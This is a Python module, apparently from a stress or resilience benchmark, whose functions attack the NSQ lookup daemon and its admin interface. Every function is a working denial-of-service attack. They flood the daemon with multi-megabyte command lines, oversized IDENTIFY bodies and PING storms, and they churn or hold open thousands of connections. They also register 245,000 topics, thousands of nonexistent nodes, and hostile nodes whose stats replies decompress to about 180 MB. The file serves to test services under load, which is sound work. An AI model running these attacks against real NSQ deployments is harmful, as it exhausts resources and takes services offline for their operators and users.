"""Attacks on nsqlookupd, and through its registrations on nsqadmin."""

from __future__ import annotations

import json
import struct
import subprocess
import sys
import time
from contextlib import ExitStack, suppress
from typing import Final

from bench.attack.sockets import connect, flood, many, paced, read_frame, wait_until
from bench.attack.target import Target
from bench.work import HOST, started

_MAGIC: Final = b"  V1"
_REGISTRATIONS: Final = 245_000
_NODES: Final = 6
_WINDOW: Final = 1000


def _identify(http_port: int = 1, name: str = HOST) -> bytes:
    peer = {"broadcast_address": name, "hostname": name, "tcp_port": 1, "http_port": http_port, "version": "1.3.0"}
    body = json.dumps(peer).encode()
    return _MAGIC + b"IDENTIFY\n" + struct.pack(">i", len(body)) + body


def registrations(target: Target, until: float) -> str:
    """Register 245,000 topics as one client, and close the connection when that is done."""
    done = 0
    with connect(target.tcp) as sock:
        sock.sendall(_identify())
        read_frame(sock)
        while done < _REGISTRATIONS and time.monotonic() < until + 22:
            sock.sendall(b"".join([b"REGISTER topic_%d\n" % number for number in range(done, done + _WINDOW)]))
            for _ in range(_WINDOW):
                read_frame(sock)
            done += _WINDOW
    return f"{done:,} registrations, then closed"


def huge_lines(target: Target, until: float) -> str:
    """Send names that never end."""
    sent = flood(lambda: connect(target.tcp), _MAGIC + b"REGISTER " + b"x" * 5_000_000, until)
    return f"{sent / 1e6:,.0f} MB"


def huge_identify(target: Target, until: float) -> str:
    body = struct.pack(">i", 5_000_000) + b'{"x":[' + b"{}," * 1_600_000
    sent = flood(lambda: connect(target.tcp), _MAGIC + b"IDENTIFY\n" + body, until)
    return f"{sent / 1e6:,.0f} MB"


def pings(target: Target, until: float) -> str:
    sent = flood(lambda: connect(target.tcp), _MAGIC + b"PING\n" * 60_000, until)
    return f"{sent // 5:,} PINGs"


def lookupd_churn(target: Target, until: float) -> str:
    done = 0
    for _ in paced(1000, until):
        with suppress(OSError), connect(target.tcp) as sock:
            sock.sendall(_identify() + b"REGISTER churn ch\n")
            done += 1
    return f"{done:,} connections"


def lookupd_idle(target: Target, until: float) -> str:
    with many(1000, lambda: connect(target.tcp)) as socks:
        wait_until(until)
        return f"{len(socks):,} connections"


# On nsqadmin: `target.tcp` is the nsqlookupd's


def hostile_nodes(target: Target, until: float) -> str:
    """Register nodes whose answers are small on the wire and large when unpacked.

    nsqadmin asks nodes only now and then, so this takes longer.
    """
    command = [sys.executable, "-m", "bench.attack.servers", "nodes", str(_NODES)]
    with ExitStack() as stack:
        process = stack.enter_context(started(command, stdout=subprocess.PIPE))
        assert process.stdout is not None
        for port in process.stdout.readline().split():
            sock = stack.enter_context(connect(target.tcp))
            sock.sendall(_identify(int(port)) + b"REGISTER evil\n")
            read_frame(sock)
        wait_until(until + 12)
        return f"{_NODES} nodes whose /stats is 180 MB"


def many_nodes(target: Target, until: float) -> str:
    """Register nodes that do not exist, more than any cluster has."""
    with ExitStack() as stack:
        for number in range(2000):
            sock = stack.enter_context(connect(target.tcp))
            sock.sendall(_identify(http_port=1 + number % 1000) + b"REGISTER evil_%d\n" % number)
            read_frame(sock)
        wait_until(until + 12)
        return "2,000 nodes that do not exist"
